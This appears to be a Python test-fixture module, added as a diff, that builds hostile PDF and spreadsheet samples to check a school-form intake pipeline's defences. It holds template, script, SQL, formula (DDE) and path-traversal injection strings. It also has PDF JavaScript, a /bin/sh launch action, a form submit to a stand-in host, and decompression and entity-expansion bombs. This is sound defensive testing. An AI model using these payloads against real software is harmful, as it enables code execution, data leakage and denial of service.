@@ -1,0 +1,251 @@
+"""Harmless files that look as bad as files can; each with the ways in which it may end."""
+
+import base64
+import io
+import zipfile
+import zlib
+from collections.abc import Callable, Mapping
+from functools import cache
+from typing import Any
+
+import openpyxl
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
+
+from pipeline.dossier.model import Kind
+from pipeline.forms.fields import FORMS
+from tests.demo import filled
+from tests.eleves import FICHES, PROTOCOLES, Values
+from tests.hostile.bombs import flate_bomb
+from tests.intake import classeurs
+from tests.intake.pdfs import Pdf
+from tests.intake.test_hostile import PAGE as _PAGE
+from tests.intake.test_hostile import numbered, raw_pdf, stream, with_fields
+
+PAGE = _PAGE.format("")
+PRENOM, RISQUES = (FORMS[Kind.FICHE].by_target[target].name for target in ("prenom", "risques"))
+READ = "lu"
+"""Read literally, as one of our forms."""
+
+WORDS = (
+    "{{7*7}}",
+    "{% for x in y %}",
+    "<b>gras</b><script>alert(1)</script>",
+    '<img src="file:///etc/passwd">',
+    '<img src="http://192.0.2.1/x.png">',
+    "=cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|x",
+    "../../../../etc/passwd",
+    "%(nom)s %n {0.__class__}",
+    "'; DROP TABLE dossiers;--",
+    "\\input{/etc/passwd}",
+)
+"""What somebody may hope to see carried out."""
+ODD = "Ana\u202ePERUTON\u202c\u200bïs\ufeff \u0007\u001b[31mrouge\u2066x\u2069"
+"""Bidirectional overrides, zero widths, a bell and a terminal's colours."""
+
+HOSTILE_FICHE: Values = FICHES["42"] | {
+    "besoin.1": "\n".join(WORDS),
+    "evolution": "{{7*7}} ${7*7} #{7*7}",
+    "risques": '<img src="file:///etc/passwd"> <style>*{display:none}</style>',
+    "auteur": '=HYPERLINK("http://192.0.2.1")',
+}
+HOSTILE_PROTOCOLE: Values = PROTOCOLES["42"] | {
+    "representant.nom": "{{7*7}} <i>X</i>",
+    "absence_eleve": "\n".join(WORDS),
+    "aide_cours_precision": "<link rel=attachment href='file:///etc/passwd'> {{ config }}",
+}
+
+
+def _edited(content: bytes, change: Callable[[PdfWriter], None]) -> bytes:
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _action(kind: str, **entries: str) -> DictionaryObject:
+    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    return DictionaryObject(found | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
+
+
+def _scripts(writer: PdfWriter) -> None:
+    script = ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="app.alert('SENTINELLE')")])
+    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): script})})
+    writer.root_object[NameObject("/Names")] = names
+    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('SENTINELLE')")
+    writer.add_metadata({"/Title": "SENTINELLE", "/Author": "SENTINELLE", "/Keywords": "SENTINELLE"})
+
+
+def _launch(writer: PdfWriter) -> None:
+    writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F="/bin/SENTINELLE")
+    writer.add_attachment("SENTINELLE.exe", b"MZ SENTINELLE")
+    page = writer.pages[0]
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+            NameObject("/A"): _action("/SubmitForm", F="http://192.0.2.1/"),
+        }
+    )
+    annotations: Any = page["/Annots"]
+    annotations.append(writer._add_object(link))
+
+
+def _hidden_bomb(writer: PdfWriter) -> None:
+    bomb = stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]")
+    reader = PdfReader(io.BytesIO(raw_pdf(["<< /Type /Catalog >>", bomb])))
+    packed: Any = reader.get_object(2)
+    writer.root_object[NameObject("/PieceInfo")] = writer._add_object(packed.clone(writer))
+
+
+def _encrypted(content: bytes, password: str) -> bytes:
+    return _edited(content, lambda writer: writer.encrypt(password, algorithm="AES-256"))
+
+
+def _zip(parts: Mapping[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def _with_part(content: bytes, name: str, part: bytes) -> bytes:
+    out = io.BytesIO(content)
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(name, part)
+    return out.getvalue()
+
+
+def _formula() -> bytes:
+    book = openpyxl.load_workbook(io.BytesIO(classeurs.blank(1)))
+    book.worksheets[0].cell(1, 1).value = "=cmd|'/C calc'!A0"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def _images() -> bytes:
+    huge = zlib.compress(bytes(60_000_000))
+    return with_fields(
+        "[]",
+        stream(b"q 10 0 0 10 0 0 cm /I Do Q"),
+        stream(
+            huge,
+            "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
+            "/BitsPerComponent 8 /Filter /FlateDecode",
+        ),
+        page="/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>",
+    )
+
+
+JPEG = base64.b64decode("/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////")
+
+
+@cache
+def hostile() -> dict[str, tuple[bytes, set[str]]]:
+    """Return name → (bytes, what it may become: ``READ`` or codes of diagnoses)."""
+    good = filled(Kind.FICHE, FICHES["01"])
+    other = filled(Kind.FICHE, FICHES["12"])
+    found: dict[str, tuple[bytes, set[str]]] = {
+        f"tronque_{tenth}.pdf": (good[: len(good) * tenth // 10], {"abime"}) for tenth in range(1, 10)
+    }
+    blank_pages = raw_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE])
+    foreign = {"abime", "autre_document", "autre_formulaire"}
+    found |= {
+        "vide.pdf": (b"", {"vide"}),
+        "html.pdf": (b"<!DOCTYPE html><script>alert(1)</script>", {"pas_un_pdf"}),
+        "zip.pdf": (_zip({"../../evil": b"x"}), {"pas_un_pdf"}),
+        "jpeg.pdf": (JPEG, {"pas_un_pdf"}),
+        "bombe_valeur.pdf": (
+            with_fields(
+                "[4 0 R]",
+                "<< /FT /Tx /T (fiche_edition) /V 5 0 R >>",
+                stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]"),
+            ),
+            foreign | {"lecture_arretee"},
+        ),
+        "bombe_page.pdf": (
+            with_fields("[]", stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]"), page="/Contents 4 0 R"),
+            foreign | {"lecture_arretee"},
+        ),
+        "pages_en_boucle.pdf": (
+            raw_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]),
+            {"abime"},
+        ),
+        "parents_en_boucle.pdf": (
+            with_fields(
+                "[4 0 R 5 0 R]",
+                "<< /T (a) /Kids [5 0 R] /Parent 5 0 R >>",
+                "<< /T (b) /Kids [4 0 R] /Parent 4 0 R >>",
+                page="/Annots [4 0 R 5 0 R]",
+            ),
+            foreign,
+        ),
+        "cent_mille_champs.pdf": (
+            with_fields(numbered(100_000), *(f"<< /FT /Tx /T (f{n}) >>" for n in range(100_000))),
+            foreign | {"lecture_arretee"},
+        ),
+        "profond.pdf": (with_fields("[" * 50_000 + "]" * 50_000), foreign),
+        "dictionnaires_profonds.pdf": (with_fields("<< /A " * 20_000 + ">>" * 20_000), foreign),
+        "xfa.pdf": (
+            raw_pdf(
+                [
+                    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [(template) 4 0 R] >> >>",
+                    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                    PAGE,
+                    stream(b"<template><script>x</script></template>"),
+                ]
+            ),
+            {"xfa"},
+        ),
+        "mot_de_passe.pdf": (_encrypted(good, "SENTINELLE"), {"mot_de_passe"}),
+        "image_geante.pdf": (_images(), {"numerisation", "autre_document"}),
+        "javascript_seul.pdf": (_edited(blank_pages, _scripts), {"autre_document"}),
+        "lancement_seul.pdf": (
+            raw_pdf(
+                [
+                    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>",
+                    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                    PAGE,
+                ]
+            ),
+            {"autre_document"},
+        ),
+        "nuls.pdf": (b"%PDF-1.7\n" + bytes(3_000_000) + b"\n%%EOF", {"abime"}),
+        "million.pdf": (
+            Pdf(filled(Kind.FICHE, FICHES["16"])).text(RISQUES, "A" * 1_000_000).save(),
+            {READ},
+        ),
+        "bidi.pdf": (
+            Pdf(filled(Kind.FICHE, FICHES["14"])).text(PRENOM, ODD).text(RISQUES, "a\0b" + ODD).save(),
+            {READ},
+        ),
+        "bombe_cachee.pdf": (_edited(other, _hidden_bomb), {READ, "abime", "lecture_arretee"}),
+        "classeur_bombe.xlsx": (
+            _with_part(classeurs.blank(1), "xl/worksheets/sheet9.xml", bytes(200_000_000)),
+            {"classeur_illisible"},
+        ),
+        "classeur_liens.xlsx": (
+            _with_part(classeurs.blank(1), "xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
+            {"classeur_actif"},
+        ),
+        "classeur_macros.xlsx": (_with_part(classeurs.blank(1), "xl/vbaProject.bin", b"macro"), {"classeur_actif"}),
+        "classeur_formule.xlsx": (_formula(), {"autre_classeur"}),
+        "classeur_entites.xlsx": (
+            _zip(
+                {
+                    "[Content_Types].xml": b"<Types/>",
+                    "xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
+                }
+            ),
+            {"classeur_illisible"},
+        ),
+        # A complete demande whose every answer and object is bait.
+        "appat_fiche.pdf": (_edited(filled(Kind.FICHE, HOSTILE_FICHE), _scripts), {READ}),
+        "appat_protocole.pdf": (_edited(filled(Kind.PROTOCOLE, HOSTILE_PROTOCOLE), _launch), {READ}),
+    }
+    return found
